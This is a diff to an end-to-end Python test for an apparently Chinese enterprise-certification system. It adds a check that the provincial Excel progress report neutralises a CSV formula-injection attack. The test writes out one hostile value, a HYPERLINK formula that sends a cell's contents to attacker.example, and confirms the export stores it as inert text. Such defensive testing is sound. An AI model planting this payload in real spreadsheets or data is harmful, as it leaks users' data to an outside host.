@@ -25,7 +25,7 @@ from assessment.domain.framework import IndicatorKind
 from assessment.domain.seed import DISCRETE
 from audit.db.tables import Application as AuditApplication
 from audit.db.tables import Qualification as AuditQualification
-from iims_common.testing import eventually
+from iims_common.testing import assert_no_formulas, assert_printable, eventually
 from registry.domain.uscc import make_uscc
 from training.domain.programmes import PROGRAMMES
 
@@ -388,15 +388,27 @@ async def test_the_whole_programme_through_the_gateway(
         )
         assert r.status_code == 404
 
-        # The province's progress report (贯标进展情况报送) as Excel with Chinese headers.
+        # The province's progress report (贯标进展情况报送) as Excel with Chinese headers —
+        # after the enterprise renamed itself to a formula (OWASP CSV injection): the cell
+        # is text, and the sheet prints landscape, one page wide, header frozen/repeated.
+        hostile = '=HYPERLINK("http://attacker.example/?x="&B2,"查看详情")'
+        current = await ministry.call("GET", f"/api/v1/enterprises/{enterprise['id']}")
+        await ministry.call(
+            "PATCH",
+            f"/api/v1/enterprises/{enterprise['id']}",
+            json={"name": hostile},
+            headers={"If-Match": f'"{current["version"]}"'},
+        )
         r = await gw.get(f"/api/v1/reports/progress/{JIANGSU}", headers=province.headers)
         assert r.status_code == 200 and r.headers["content-type"].startswith(
             "application/vnd.openxmlformats"
         )
+        assert_no_formulas(r.content)
+        assert_printable(r.content)
         sheet = load_workbook(io.BytesIO(r.content)).active
         rows = list(sheet.iter_rows(values_only=True))
         assert rows[0][:3] == ("企业名称", "统一社会信用代码", "行业代码")
-        [row] = [x for x in rows[1:] if x[0] == enterprise["name"]]
+        [row] = [x for x in rows[1:] if x[0] == "'" + hostile]
         assert row[4] == "已认定" and row[8] == certificate["number"] and row[3] == year
         r = await gw.get("/api/v1/reports/progress/110000", headers=province.headers)
         assert r.status_code == 404
